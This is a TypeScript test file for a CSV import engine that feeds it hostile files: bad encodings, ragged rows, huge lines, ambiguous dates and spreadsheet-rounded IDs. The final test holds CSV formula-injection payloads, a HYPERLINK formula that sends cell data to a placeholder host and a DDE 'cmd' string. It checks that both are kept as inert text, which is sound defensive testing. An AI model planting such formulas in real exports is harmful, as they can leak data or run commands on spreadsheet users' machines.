import { createWriteStream, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Accepted, commands, instant, integer, optional, ref, text, type AnyCommand } from '@baton/kernel';
import { FixedClock } from '@baton/kernel/testing';
import { importFile } from './engine';
import { mappingOf } from './mapping';
import type { RowFault } from './plan';

const aggregates = {
  lead: commands('lead', {
    CaptureLead: {
      description: 'Capture.',
      allow: ['marketing'],
      leadId: ref('lead'),
      externalId: optional(text()),
      name: optional(text()),
      employees: optional(integer()),
      birthday: optional(instant()),
    },
  }),
};
const folder = mkdtempSync(join(tmpdir(), 'baton-hostile-'));
afterAll(() => rmSync(folder, { recursive: true }));
const file = join(folder, 'leads.csv');

/** Imports a file; `fields` are values of the command besides the id. */
const imported = async (content: string | Buffer | undefined, fields: object = {}, more: object = {}) => {
  if (content !== undefined) writeFileSync(file, content);
  const sent: AnyCommand[] = [];
  const faults: RowFault[] = [];
  const { occurredAt, ...data } = fields as { occurredAt?: unknown };
  const command = {
    command: 'CaptureLead',
    to: 'lead',
    ...(occurredAt !== undefined && { occurredAt }),
    data: { leadId: { column: 'id' }, name: { column: 'name' }, ...data },
  };
  await importFile({
    secret: Buffer.alloc(32),
    startRun: async () => 1,
    mapping: mappingOf({ name: 'leads', key: ['id'], commands: [command], ...more }, aggregates),
    file,
    aggregates,
    send: async (_, id, one) => (sent.push(one), new Accepted(id, '1', 0, 1, false)),
    lookup: async () => undefined,
    clock: new FixedClock('2026-01-01T00:00:00.000Z'),
    settle: async () => undefined,
    report: (fault) => void faults.push(fault),
  });
  return { sent, faults };
};
/** `line column code` of each fault, `id` of each command sent. */
const resultOf = async (...given: Parameters<typeof imported>) => {
  const { sent, faults } = await imported(...given);
  const ids = sent.map(({ data }) => (data as { leadId: string }).leadId);
  return { faults: faults.map(({ line, column, code }) => `${line} ${column} ${code}`), sent: ids };
};
const swapped = (bytes: Buffer): Buffer => Buffer.from(bytes).swap16();

describe('a hostile file', () => {
  const lines = 'id,name\n1,Ada\n2,Zoë\n';
  it.each([
    ['with a byte order mark', `\ufeff${lines}`],
    ['with lone carriage returns', lines.replaceAll('\n', '\r')],
  ])('%s is read', async (_, content) => {
    expect(await resultOf(content)).toEqual({ faults: [], sent: ['1', '2'] });
  });

  it.each([
    ['UTF-16 LE with its mark', 'import/not-utf-8', '', Buffer.from(`\ufeff${lines}`, 'utf16le')],
    ['UTF-16 BE with its mark', 'import/not-utf-8', '', swapped(Buffer.from(`\ufeff${lines}`, 'utf16le'))],
    ['UTF-16 LE without a mark', 'import/not-utf-8', '', Buffer.from(lines, 'utf16le')],
    ['UTF-16 BE without a mark', 'import/not-utf-8', '', swapped(Buffer.from(lines, 'utf16le'))],
    ['a duplicate header', 'import/duplicate-column', 'name', 'id,name,name\n1,a,b\n'],
    ['a header that is not closed', 'import/bad-header', '', 'id,"name\n1,a\n'],
    ['nothing', 'import/empty-file', '', ''],
    ['only a byte order mark', 'import/empty-file', '', '\ufeff'],
    ['NULs alone', 'import/bad-header', '', Buffer.alloc(1000)],
    ['a letter', 'import/unknown-column', 'id', 'x'],
  ])('of %s is refused with %s before anything is sent', async (_, code, path, content) => {
    await expect(imported(content)).rejects.toMatchObject({ code, path });
  });

  it('is reported row by row, with line and column, and the good rows are imported', async () => {
    const rows = ['id,name', '1,a', '2', '3,a,b', '4,\0', '5 "x",a', '6,b', '"7,a', '8,c'].join('\n');
    expect(await resultOf(rows)).toEqual({
      faults: [
        '3  import/ragged-row',
        '4  import/ragged-row',
        '5  import/nul-character',
        '6  import/stray-quote',
        '8  import/unclosed-quote',
      ],
      sent: ['1', '6', '8'],
    });
  });

  it('of ten thousand columns is read, and a longer row is ragged', async () => {
    const columns = Array.from({ length: 10_000 }, (_, n) => `c${n}`).join(',');
    const cells = Array.from({ length: 10_000 }, (_, n) => n).join(',');
    expect(await resultOf(`id,name,${columns}\n1,a,${cells}\n2,b,${cells},one more\n`)).toEqual({
      faults: ['3  import/ragged-row'],
      sent: ['1'],
    });
  });

  it.each([
    ['', 'import/row-too-long'],
    ['"', 'import/row-too-long'],
  ])('with a line of 100 MB (%s) loses that line, in bounded memory', async (opening, code) => {
    const writing = createWriteStream(file);
    writing.write(`id,name\n1,a\n2,${opening}`);
    const chunk = Buffer.alloc(2 ** 20, 'x');
    for (let written = 0; written < 100; written++) if (!writing.write(chunk)) await once(writing, 'drain');
    writing.end('\n3,b\n');
    await once(writing, 'close');
    const held = () => {
      const { heapUsed, external } = process.memoryUsage();
      return heapUsed + external;
    };
    const before = held();
    let most = 0;
    const watch = setInterval(() => (most = Math.max(most, held() - before)), 1);
    const answer = await resultOf(undefined);
    clearInterval(watch);
    expect(answer).toEqual({ faults: [`3  ${code}`], sent: ['1', '3'] });
    expect(most).toBeGreaterThan(0);
    expect(most / 2 ** 20).toBeLessThan(64);
  });
});

describe('a date', () => {
  const of = (text: string, birthday: object) =>
    imported(`id,name,born\n1,a,${text}\n`, { birthday: { column: 'born', ...birthday } }).then(({ sent, faults }) =>
      sent.length > 0
        ? (sent[0]!.data as { birthday: string }).birthday
        : faults.map(({ line, column, code }) => `${line} ${column} ${code}`)[0],
    );

  it.each([
    ['day first', '03/04/2024', { date: 'd/M/yyyy', zone: 'UTC' }, '2024-04-03T00:00:00.000Z'],
    ['month first', '03/04/2024', { date: 'M/d/yyyy', zone: 'UTC' }, '2024-03-04T00:00:00.000Z'],
    ['day first read as month first', '25/12/2024', { date: 'M/d/yyyy', zone: 'UTC' }, '2 born import/not-a-date'],
    ['month first read as day first', '12/25/2024', { date: 'd/M/yyyy', zone: 'UTC' }, '2 born import/not-a-date'],
    ['ambiguous, and the mapping says nothing', '03/04/2024', {}, '2 born command/invalid'],
    ['ambiguous, and ISO is asked for', '03/04/2024', { date: 'iso', zone: 'UTC' }, '2 born import/not-a-date'],
    ['a count of days', '45292', { date: 'iso', zone: 'UTC' }, '2 born import/not-a-date'],
    ['a count of days and a part', '45292.75', { date: 'M/d/yyyy', zone: 'UTC' }, '2 born import/not-a-date'],
    ['a count of days, and the mapping says nothing', '45292', {}, '2 born command/invalid'],
    ['before 1900', '1899-12-31', { date: 'iso', zone: 'UTC' }, '2 born import/not-a-date'],
    ['after 2200', '2201-01-01', { date: 'iso', zone: 'UTC' }, '2 born import/not-a-date'],
    ['with an offset of a day', '2024-01-01T00:00:00+25:00', { date: 'iso', zone: 'UTC' }, '2 born import/not-a-date'],
    ['before our era', '-000001-01-01', { date: 'iso', zone: 'UTC' }, '2 born import/not-a-date'],
    ['a year', '2024', { date: 'iso', zone: 'UTC' }, '2 born import/not-a-date'],
    ['a day of a year', '2024045', { date: 'iso', zone: 'UTC' }, '2 born import/not-a-date'],
    ['a time of day without its day', '12:30', { date: 'iso', zone: 'UTC' }, '2 born import/not-a-date'],
  ])('%s', async (_, text, birthday, expected) => expect(await of(text, birthday)).toBe(expected));

  it('of the occurrence must be a possible date, also in a dry run', async () => {
    const at = { occurredAt: { column: 'at', date: 'iso', zone: 'UTC' } };
    const days = ['1970-01-01', '1989-12-31', '2199-01-01', '1990-01-01'];
    expect(await resultOf(`id,name,at\n${days.map((day, n) => `${n},a,${day}`).join('\n')}\n`, at)).toEqual({
      faults: ['2 at command/empty-date', '3 at command/too-early', '4 at command/in-the-future'],
      sent: ['3'],
    });
  });

  it('of the occurrence is never guessed', async () => {
    expect(await resultOf('id,name,at\n1,a,03/04/2024\n2,b,\n', { occurredAt: { column: 'at' } })).toEqual({
      faults: ['2 at import/not-a-date', '3 at import/no-date'],
      sent: [],
    });
  });
});

describe('a cell changed by a spreadsheet', () => {
  it('is refused as an id if it was rounded', async () => {
    const rows = 'id,name,crm\n\u200e1.23E+15,a,x\n2,b,"4,56e+11"\n3,1.23E+15,y\n1E5,c,2E7f\n';
    expect(await resultOf(rows, { externalId: { template: 'crm:{crm}' } })).toEqual({
      faults: ['2 id import/rounded-id', '3 crm import/rounded-id'],
      sent: ['3', '1E5'], // other text may look like that, and is a valid id
    });
  });

  it('is refused in a lookup by it', async () => {
    const lookup = { lookup: 'lead', externalId: { template: 'crm:{crm}' } };
    expect((await resultOf('id,name,crm\n1,a,1.23E+15\n', { leadId: lookup }, { key: ['name'] })).faults).toEqual([
      '2 crm import/rounded-id',
    ]);
  });

  it('is refused as a number', async () => {
    const employees = { column: 'size', as: 'integer' };
    expect((await resultOf('id,name,size\n1,a,1.2E+03\n', { employees })).faults).toEqual([
      '2 size import/not-a-number',
    ]);
  });

  it('is kept as text if it is a formula: never run, and in no report', async () => {
    const formulas = ['=HYPERLINK(""http://x?""&A1)', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1)'];
    const rows = formulas.map((formula, n) => `${n},"${formula}",${n}`).join('\n');
    const { sent, faults } = await imported(`id,name,size\n${rows}\n9,x,=1+1\n`, {
      employees: { column: 'size', as: 'integer' },
    });
    expect(sent.map(({ data }) => (data as { name: string }).name)).toEqual(
      formulas.map((formula) => formula.replaceAll('""', '"')),
    );
    expect(faults).toEqual([{ line: 7, column: 'size', code: 'import/not-a-number', message: expect.any(String) }]);
    expect(JSON.stringify(faults)).not.toContain('=1');
  });
});
